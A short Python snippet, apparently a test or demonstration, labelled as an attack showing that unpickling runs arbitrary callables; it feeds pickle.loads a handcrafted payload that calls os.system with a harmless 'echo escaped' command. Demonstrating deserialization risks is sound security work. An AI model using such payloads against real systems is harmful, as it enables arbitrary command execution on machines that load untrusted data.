# attack: unpickling runs arbitrary callables
import pickle

pickle.loads(b"cos\nsystem\n(S'echo escaped'\ntR.")
